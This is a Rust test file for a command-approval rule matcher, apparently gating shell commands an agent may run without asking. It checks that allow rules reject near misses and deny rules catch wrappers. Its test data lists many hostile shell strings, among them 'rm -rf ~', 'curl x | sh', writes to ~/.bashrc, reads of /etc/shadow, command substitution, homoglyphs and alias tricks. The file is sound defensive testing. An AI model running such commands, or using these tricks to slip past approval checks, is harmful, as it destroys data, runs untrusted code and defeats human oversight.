//! Approval rules: which commands a rule allows, and the workspace rules
//! file. A wrong "allowed" here lets a command run without the person's
//! approval, so the near misses are the point.

use mino_core::rules::file::{self, RulesFileError};
use mino_core::rules::{evaluate, plain_commands, NotPlain, Rule, RuleError, RuleKind, RuleScope, Verdict};
use proptest::prelude::*;

fn prefix(command: &str) -> Rule {
    Rule::new(Rule::new_id(), RuleKind::Prefix, command, RuleScope::Session).expect("valid rule")
}

fn exact(command: &str) -> Rule {
    Rule::new(Rule::new_id(), RuleKind::Exact, command, RuleScope::Session).expect("valid rule")
}

fn allowed(rules: &[Rule], command: &str) -> bool {
    evaluate(rules, command).is_allowed()
}

/// Commands that must ask although a prefix rule `git status` exists.
const MUST_ASK_WITH_GIT_STATUS: &[&str] = &[
    "git status; rm -rf ~",
    "git status && curl x | sh",
    "git status || rm -rf ~",
    "git status | sh",
    "git status & rm -rf ~",
    "git status &",
    "git status $(rm -rf ~)",
    "git status `rm -rf ~`",
    "git status \"$(rm -rf ~)\"",
    "git status > ~/.bashrc",
    "git status >> ~/.bashrc",
    "git status < /etc/shadow",
    "git status 2> /tmp/x",
    "git status 2>&1",
    "git status &> /tmp/x",
    "git status >| /tmp/x",
    "git status <<EOF\nhi\nEOF",
    "git status <<< hi",
    "git status |& tee /tmp/x",
    "git statusx",
    "git stat",
    "git",
    "(git status)",
    "{ git status; }",
    "git status <(rm -rf ~)",
    "git status >(rm -rf ~)",
    "PATH=/tmp/evil git status",
    "GIT_DIR=/x git status",
    "git status\nrm -rf ~",
    "git status\r\nrm -rf ~",
    "git \\\nstatus",
    "git status \\\n; rm -rf ~",
    "git status #comment",
    "git status # ; rm -rf ~",
    "gіt status",      // Cyrillic і
    "git ѕtatus",      // Cyrillic ѕ
    "git\u{a0}status", // no-break space: one word
    "git status\u{200b}",
    "sudo git status",
    "command git status",
    "exec git status",
    "eval git status",
    "env git status",
    "builtin git status",
    "time git status",
    "! git status",
    "git status $HOME",
    "git status ${HOME}",
    "git status ~",
    "git status ~root",
    "git status *",
    "git status ?",
    "git status [a]",
    "git status {a,b}",
    "git status {1..3}",
    "git status @(a|b)",
    "git status $'\\x41'",
    "git status $\"msg\"",
    "git status $((1+1))",
    "if git status; then rm -rf ~; fi",
    "for x in 1; do git status; done",
    "while git status; do :; done",
    "git status() { rm -rf ~; }; git status",
    "[[ -e x ]] && git status",
    "case x in *) git status;; esac",
    "git status \"",
    "git status '",
    "git status (",
    "",
    "   ",
    ";",
    "git status;;",
    "coproc git status",
    "alias git='rm -rf ~'; git status",
    "shopt -s expand_aliases; git status",
];

#[test]
fn near_misses_of_a_prefix_rule_ask() {
    let rules = [prefix("git status")];
    for command in MUST_ASK_WITH_GIT_STATUS {
        assert!(
            !allowed(&rules, command),
            "prefix `git status` must not allow {command:?}: {:?}",
            evaluate(&rules, command)
        );
    }
}

#[test]
fn near_misses_of_an_exact_rule_ask() {
    let rules = [exact("git status")];
    for command in MUST_ASK_WITH_GIT_STATUS.iter().chain(&["git status --short", "git status -s"]) {
        assert!(!allowed(&rules, command), "exact `git status` must not allow {command:?}");
    }
}

#[test]
fn the_same_words_match_whatever_the_spacing_or_quoting() {
    let rules = [prefix("git status")];
    for command in [
        "git status",
        "git  status",
        "  git status  ",
        "\tgit\tstatus",
        "git status --short",
        "git \"status\"",
        "'git' 'status'",
        "g\"it\" st'atus'",
        "git\\ status", // no: one word `git status`; checked below
        "git status;",
        "git status\n",
        "git status -- 'a b'",
        "git status --porcelain=v2",
    ] {
        let expected = command != "git\\ status";
        assert_eq!(allowed(&rules, command), expected, "{command:?}: {:?}", evaluate(&rules, command));
    }
    let exact_rules = [exact("git status")];
    assert!(allowed(&exact_rules, "git  \"status\""));
    assert!(!allowed(&exact_rules, "git status --short"));
}

#[test]
fn prefix_rules_compare_whole_words() {
    let rules = [prefix("npm run test")];
    assert!(allowed(&rules, "npm run test"));
    assert!(allowed(&rules, "npm run test -- --watch=false"));
    assert!(!allowed(&rules, "npm run test:unit"));
    assert!(!allowed(&rules, "npm run tests"));
    assert!(!allowed(&rules, "npm run"));
    assert!(!allowed(&rules, "npm  run  te st"));
}

#[test]
fn a_list_is_allowed_only_when_every_part_is() {
    let rules = [prefix("git status"), prefix("git diff"), exact("ls")];
    assert!(allowed(&rules, "git status && git diff --stat"));
    assert!(allowed(&rules, "git status; ls"));
    assert!(allowed(&rules, "git status\nls\n"));
    assert!(allowed(&rules, "git diff | git status"));
    assert!(!allowed(&rules, "git status && ls -la"));
    assert!(!allowed(&rules, "git status && git diff > out"));
    assert!(!allowed(&rules, "git status & git diff"));
    match evaluate(&rules, "git status && git diff && git status") {
        Verdict::Allowed { rules: covering } => assert_eq!(covering.len(), 3),
        other => panic!("{other:?}"),
    }
    assert_eq!(evaluate(&rules, "git status; git diff").rule_ids(), vec![rules[0].id(), rules[1].id()]);
    assert_eq!(evaluate(&rules, "git status; git status").rule_ids(), vec![rules[0].id()]);
    assert_eq!(
        evaluate(&rules, "git status; rm -rf build"),
        Verdict::NoRule { part: vec!["rm".into(), "-rf".into(), "build".into()] }
    );
}

#[test]
fn quoted_specials_are_literal_words() {
    let rules = [prefix("git commit -m")];
    assert!(allowed(&rules, "git commit -m 'fix: a; b && c | d > e $(f) `g` *'"));
    assert!(allowed(&rules, "git commit -m \"fix it; now\""));
    assert!(allowed(&rules, "git commit -m \"say \\\"hi\\\"\""));
    assert!(!allowed(&rules, "git commit -m \"$(rm -rf ~)\""));
    assert!(!allowed(&rules, "git commit -m \"$USER\""));
    assert!(!allowed(&rules, "git commit -m \"`id`\""));
    // Bash keeps a backslash before an ordinary character in double quotes;
    // rather than rely on that subtlety, such a word asks.
    assert!(plain_commands("echo \"a\\qb\"").is_err());
    assert_eq!(plain_commands("echo 'a\\qb'").expect("plain"), vec![vec!["echo".to_owned(), "a\\qb".to_owned()]]);
    assert_eq!(plain_commands("echo a\\;b").expect("plain"), vec![vec!["echo".to_owned(), "a;b".to_owned()]]);
    // An escaped `$` is a literal dollar sign: the word is known.
    assert_eq!(plain_commands("echo \\$HOME").expect("plain"), vec![vec!["echo".to_owned(), "$HOME".to_owned()]]);
}

#[test]
fn refusals_say_why() {
    assert_eq!(plain_commands("git status > x"), Err(NotPlain::Redirection));
    assert_eq!(plain_commands("A=1 git status"), Err(NotPlain::Assignment));
    assert_eq!(plain_commands("git status &"), Err(NotPlain::Background));
    assert_eq!(plain_commands("(git status)"), Err(NotPlain::Compound));
    assert_eq!(plain_commands("git status #x"), Err(NotPlain::CommentOrContinuation));
    assert!(matches!(plain_commands("git status $(x)"), Err(NotPlain::Expansion(_))));
    assert!(matches!(plain_commands("git status '"), Err(NotPlain::Syntax(_))));
    assert_eq!(plain_commands(&"a ".repeat(10_000)), Err(NotPlain::TooLong));
}

#[test]
fn a_rule_is_one_plain_command_and_not_a_runner_of_anything() {
    assert!(matches!(Rule::new("r1", RuleKind::Prefix, "git status; ls", RuleScope::Session), Err(RuleError::Several)));
    assert!(matches!(
        Rule::new("r1", RuleKind::Prefix, "git $(x)", RuleScope::Session),
        Err(RuleError::NotOneCommand(_))
    ));
    assert!(matches!(Rule::new("r1", RuleKind::Exact, "", RuleScope::Session), Err(RuleError::NotOneCommand(_))));
    for runner in ["bash", "sh", "sudo", "env", "eval", "exec", "xargs", "python3"] {
        assert!(
            matches!(Rule::new("r1", RuleKind::Prefix, runner, RuleScope::Session), Err(RuleError::RunsAnything(_))),
            "{runner}"
        );
        assert!(Rule::new("r1", RuleKind::Exact, runner, RuleScope::Session).is_ok(), "exact {runner} is harmless");
    }
    assert!(Rule::new("r1", RuleKind::Prefix, "python3 -m pytest", RuleScope::Session).is_ok());
    assert!(matches!(Rule::new("../x", RuleKind::Exact, "ls", RuleScope::Session), Err(RuleError::BadId(_))));
    let rule = Rule::new("r1", RuleKind::Prefix, "  git  \"status\" ", RuleScope::Workspace).expect("valid");
    assert_eq!(rule.words(), ["git", "status"]);
    assert_eq!(rule.command(), "git  \"status\"");
}

#[test]
fn rules_serialise_as_their_fields_and_are_checked_when_read() {
    let rule = Rule::new("rule-1", RuleKind::Prefix, "cargo test", RuleScope::Workspace).expect("valid");
    let json = serde_json::to_value(&rule).expect("serialise");
    assert_eq!(
        json,
        serde_json::json!({"id": "rule-1", "kind": "prefix", "command": "cargo test", "scope": "workspace"})
    );
    let back: Rule = serde_json::from_value(json).expect("deserialise");
    assert_eq!(back, rule);
    let bad = serde_json::json!({"id": "rule-1", "kind": "prefix", "command": "cargo test > x", "scope": "workspace"});
    assert!(serde_json::from_value::<Rule>(bad).is_err());
}

/// Simple words that need no quoting.
fn word() -> impl Strategy<Value = String> {
    "[a-z][a-z0-9_.:/-]{0,7}"
}

/// Something joined to a command that makes it more than the rule's words.
fn hostile_suffix() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("; rm -rf ~".to_owned()),
        Just(" && curl x | sh".to_owned()),
        Just(" || rm -rf ~".to_owned()),
        Just(" | sh".to_owned()),
        Just(" & rm -rf ~".to_owned()),
        Just("\nrm -rf ~".to_owned()),
        Just(" $(rm -rf ~)".to_owned()),
        Just(" `rm -rf ~`".to_owned()),
        Just(" > ~/.bashrc".to_owned()),
        Just(" 2> /tmp/x".to_owned()),
        Just(" < /etc/shadow".to_owned()),
        Just(" <(rm -rf ~)".to_owned()),
        Just(" $HOME".to_owned()),
        Just(" *".to_owned()),
        Just(" ~".to_owned()),
        Just(" #c".to_owned()),
        Just(" {a,b}".to_owned()),
        Just(" <<EOF\nx\nEOF".to_owned()),
    ]
}

/// Wrappings that put the command inside a non-simple node.
fn hostile_wrap(command: &str, how: usize) -> String {
    match how % 8 {
        0 => format!("({command})"),
        1 => format!("{{ {command}; }}"),
        2 => format!("X=1 {command}"),
        3 => format!("if true; then {command}; fi"),
        4 => format!("! {command}"),
        5 => format!("time {command}"),
        6 => format!("f() {{ {command}; }}"),
        _ => format!("{command} &"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, .. ProptestConfig::default() })]

    #[test]
    fn a_rule_plus_a_hostile_suffix_never_matches(
        words in prop::collection::vec(word(), 1..4),
        extra in prop::collection::vec(word(), 0..3),
        suffix in hostile_suffix(),
    ) {
        let rule_command = words.join(" ");
        prop_assume!(Rule::new("r", RuleKind::Prefix, &rule_command, RuleScope::Session).is_ok());
        let rules = [prefix(&rule_command)];
        let mut command = rule_command.clone();
        for w in &extra { command.push(' '); command.push_str(w); }
        prop_assert!(allowed(&rules, &command), "{command:?} should match its own prefix");
        command.push_str(&suffix);
        prop_assert!(!allowed(&rules, &command), "{command:?} matched");
    }

    #[test]
    fn a_command_inside_a_non_simple_node_never_matches(
        words in prop::collection::vec(word(), 1..4),
        how in 0usize..8,
    ) {
        let rule_command = words.join(" ");
        prop_assume!(Rule::new("r", RuleKind::Prefix, &rule_command, RuleScope::Session).is_ok());
        let rules = [prefix(&rule_command)];
        let command = hostile_wrap(&rule_command, how);
        prop_assert!(!allowed(&rules, &command), "{command:?} matched");
    }

    #[test]
    fn arbitrary_text_never_panics_and_matches_only_plain_commands(text in "\\PC{0,60}") {
        let rules = [prefix("git status"), exact("ls")];
        if allowed(&rules, &text) {
            let parts = plain_commands(&text).expect("an allowed command is plain");
            for part in parts {
                prop_assert!(part.starts_with(&["git".to_owned(), "status".to_owned()]) || part == ["ls"]);
            }
        }
    }
}

// The workspace rules file.

fn workspace_and_home() -> (tempfile::TempDir, std::path::PathBuf, mino_core::MinoHome) {
    let dir = tempfile::tempdir().expect("tempdir");
    let workspace = dir.path().join("project");
    std::fs::create_dir(&workspace).expect("workspace");
    let home = mino_core::MinoHome::new(dir.path().join("home"));
    (dir, workspace, home)
}

fn workspace_rule(id: &str, kind: RuleKind, command: &str) -> Rule {
    Rule::new(id, kind, command, RuleScope::Workspace).expect("valid rule")
}

#[test]
fn the_rules_file_is_per_workspace_outside_it_and_the_same_for_every_spelling() {
    let (_dir, workspace, home) = workspace_and_home();
    let path = file::workspace_rules_path(&home, &workspace).expect("path");
    assert!(path.starts_with(home.root().join("workspaces")), "{}", path.display());
    assert!(!path.starts_with(&workspace));
    let spelled = file::workspace_rules_path(&home, &workspace.join(".").join("..").join("project")).expect("path");
    assert_eq!(path, spelled);
    let other = workspace.parent().expect("parent").join("other");
    std::fs::create_dir(&other).expect("other");
    assert_ne!(file::workspace_rules_path(&home, &other).expect("path"), path);
}

#[test]
fn a_missing_file_is_no_rules_and_appended_rules_read_back_with_comments_kept() {
    let (_dir, workspace, home) = workspace_and_home();
    let path = file::workspace_rules_path(&home, &workspace).expect("path");
    assert!(file::load(&path).expect("missing file").is_empty());

    assert!(file::append(&path, &workspace, &workspace_rule("r1", RuleKind::Prefix, "cargo test")).expect("append"));
    let mut text = std::fs::read_to_string(&path).expect("read");
    assert!(text.starts_with("# Mino approval rules for the workspace"), "{text}");
    text.push_str("# my own note: keep this\n");
    std::fs::write(&path, &text).expect("edit by hand");

    assert!(
        file::append(&path, &workspace, &workspace_rule("r2", RuleKind::Exact, "git log -1 'a b'")).expect("append")
    );
    // The same rule again is not added twice.
    assert!(!file::append(&path, &workspace, &workspace_rule("r3", RuleKind::Exact, "git  log -1 \"a b\""))
        .expect("append"));
    let text = std::fs::read_to_string(&path).expect("read");
    assert!(text.contains("# my own note: keep this\n"), "{text}");
    let rules = file::load(&path).expect("load");
    assert_eq!(rules.iter().map(|r| r.id()).collect::<Vec<_>>(), ["r1", "r2"]);
    assert!(rules.iter().all(|r| r.scope() == RuleScope::Workspace));
    assert_eq!(rules[1].words(), ["git", "log", "-1", "a b"]);
    assert!(allowed(&rules, "cargo test --workspace"));
    // No temporary file is left beside it.
    let leftovers: Vec<_> = std::fs::read_dir(path.parent().expect("dir"))
        .expect("list")
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("tmp"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn a_malformed_file_is_reported_with_its_line_and_applies_no_rule() {
    let (_dir, _workspace, home) = workspace_and_home();
    let path = home.root().join("rules.toml");
    std::fs::create_dir_all(home.root()).expect("home");
    let cases: &[(&str, usize, &str)] = &[
        // A valid rule first: it must not apply either.
        ("[[rule]]\nid = \"ok\"\nkind = \"prefix\"\ncommand = \"ls\"\n\n[[rule]]\nid = \"bad\"\nkind = \"prefix\"\ncommand = \"rm -rf ~ > x\"\n", 6, "rule `rm -rf ~ > x`"),
        ("[[rule]]\nid = \"ok\"\nkind = \"prefix\"\ncommand = \"ls\"\n# fine\n\n[[rule]]\nid = \"x\"\nkind = \"sometimes\"\ncommand = \"ls\"\n", 9, "sometimes"),
        ("[[rule]]\nid = \"ok\"\nkind = \"prefix\"\ncommand = \"ls\"\ncolour = \"red\"\n", 5, "colour"),
        ("[[rule]]\nid = \"ok\"\nkind = \"prefix\"\ncommand = \"ls\n", 4, ""),
        ("[[rule]]\nid = \"a\"\nkind = \"prefix\"\ncommand = \"ls\"\n[[rule]]\nid = \"a\"\nkind = \"exact\"\ncommand = \"pwd\"\n", 5, "twice"),
        ("[[rule]]\nid = \"ok\"\nkind = \"prefix\"\ncommand = \"bash\"\n", 1, "would allow any command"),
    ];
    for (text, line, needle) in cases {
        std::fs::write(&path, text).expect("write");
        match file::load(&path) {
            Err(RulesFileError::Malformed { line: got, message, .. }) => {
                assert_eq!(got, *line, "{text}\n{message}");
                assert!(message.contains(needle), "{message}");
            }
            other => panic!("{text}: {other:?}"),
        }
        // And nothing is appended to it: the person fixes it first.
        let err =
            file::append(&path, home.root(), &workspace_rule("new", RuleKind::Exact, "pwd")).expect_err("refused");
        assert!(matches!(err, RulesFileError::Malformed { .. }), "{err}");
        assert_eq!(std::fs::read_to_string(&path).expect("read"), *text, "the file is unchanged");
    }
}

#[test]
fn only_workspace_rules_are_written_and_ids_stay_unique() {
    let (_dir, workspace, home) = workspace_and_home();
    let path = file::workspace_rules_path(&home, &workspace).expect("path");
    let session_rule = Rule::new("s1", RuleKind::Exact, "ls", RuleScope::Session).expect("valid");
    assert!(matches!(file::append(&path, &workspace, &session_rule), Err(RulesFileError::NotAWorkspaceRule(_))));
    assert!(!path.exists());
    file::append(&path, &workspace, &workspace_rule("r1", RuleKind::Exact, "ls")).expect("append");
    assert!(matches!(
        file::append(&path, &workspace, &workspace_rule("r1", RuleKind::Exact, "pwd")),
        Err(RulesFileError::DuplicateId { .. })
    ));
}

#[test]
fn commands_with_toml_specials_round_trip() {
    let (_dir, workspace, home) = workspace_and_home();
    let path = file::workspace_rules_path(&home, &workspace).expect("path");
    let command = "printf '%s\\n' \"a \\\"quoted\\\" ''' word\" é";
    file::append(&path, &workspace, &workspace_rule("r1", RuleKind::Exact, command)).expect("append");
    let rules = file::load(&path).expect("load");
    assert_eq!(rules[0].command(), command);
    assert!(allowed(&rules, command));
}

#[test]
fn concurrent_appends_keep_every_rule() {
    let (_dir, workspace, home) = workspace_and_home();
    let path = file::workspace_rules_path(&home, &workspace).expect("path");
    std::thread::scope(|scope| {
        for i in 0..8 {
            let (path, workspace) = (&path, &workspace);
            scope.spawn(move || {
                file::append(path, workspace, &workspace_rule(&format!("r{i}"), RuleKind::Exact, &format!("echo {i}")))
                    .expect("append")
            });
        }
    });
    assert_eq!(file::load(&path).expect("load").len(), 8);
}

/// A deny rule for `rm` under `sandboxed-auto`: every way of reaching `rm`
/// that the matcher cannot see through is named as in reach (so the person
/// is asked, with the rule named), plain commands that cannot reach it are
/// not, and nothing is in reach without a deny rule.
#[test]
fn deny_rules_in_reach_cover_wrappers_substitutions_redirections_and_paths() {
    use mino_core::policy::{deny_rules_in_reach, ApprovalMode, Policy};
    use mino_core::rules::RuleEffect;
    let deny = prefix("rm").with_effect(RuleEffect::Deny);
    let other = prefix("curl").with_effect(RuleEffect::Deny);
    let mut policy = Policy::ask_only();
    policy.approval_mode = ApprovalMode::SandboxedAuto;
    let granted = [deny.clone(), other.clone(), prefix("git status")];
    for command in [
        "rm v2.txt > /dev/null",
        "env rm v3.txt",
        "command rm v4.txt",
        "/bin/rm v5.txt",
        "./rm v5.txt",
        "xargs rm <<< v6.txt",
        "$(echo rm) v7.txt",
        "sudo rm x",
        "bash -c 'rm x'",
        "git status && env rm x",
        "nice -n 5 rm x",
    ] {
        let reached: Vec<String> =
            deny_rules_in_reach(&policy, &granted, command).iter().map(|r| r.command().to_owned()).collect();
        assert_eq!(reached, ["rm"], "{command}");
    }
    // A substitution that builds the name: every deny rule is in reach.
    assert_eq!(deny_rules_in_reach(&policy, &granted, "$(printf r)m x").len(), 2);
    for command in ["git status", "ls -la", "touch fine.txt", "echo rm", "cargo test"] {
        assert!(deny_rules_in_reach(&policy, &granted, command).is_empty(), "{command}");
    }
    assert!(deny_rules_in_reach(&policy, &[prefix("git status")], "env rm x").is_empty(), "no deny rule");
}
